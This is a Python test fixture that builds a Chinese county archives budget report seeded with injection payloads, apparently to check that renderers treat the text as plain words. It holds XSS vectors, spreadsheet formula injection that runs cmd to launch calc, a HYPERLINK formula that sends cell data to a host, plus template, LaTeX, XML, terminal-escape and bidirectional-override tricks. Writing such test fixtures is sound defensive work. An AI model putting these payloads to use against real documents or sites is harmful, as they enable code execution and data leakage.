"""An account whose words would do something if any output took them for more than words."""

from __future__ import annotations

from hostile.account import text

#: What a page would run; it leaves a mark on the page that can be looked for.
SCRIPT = "document.documentElement.setAttribute('data-spoilt','1')"
MARK = 'data-spoilt="1"'
DEPARTMENT = f"<script>{SCRIPT}</script>云溪县档案馆"
LABEL = f'一、一般公共服务支出<img src=x onerror="{SCRIPT}">'
#: Sentences for each kind of output: page, formula of a spreadsheet, of a notebook, template, type setting, terminal.
SENTENCES = (
    "2023年度收、支总计120.51万元。",
    f"<svg onload={SCRIPT}><iframe src=javascript:{SCRIPT}></iframe>收入合计120.50万元。",
    "=cmd|'/C calc'!A0 收入合计120.50万元。",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")',
    rf"$\href{{javascript:{SCRIPT}}}{{x}}$ \(\unicode{{x}}\) 支出合计120.50万元。",
    '{{ 7 * 191 }}{% raw %}#panic("x")#eval("1")*x*_x_ 支出合计120.50万元。',
    "]]><!--<w:p/>&lt;b&gt; 支出合计120.50万元。",
    "\x1b[2J\x1b]0;x\x07支出合计120.50万元。",
    "支出合计\u202e05.021\u202c万元。",
)


def payload() -> bytes:
    """The account as plain text."""
    return text(department=DEPARTMENT, sentence="\n".join(SENTENCES), income="=1+1", label=LABEL).encode()
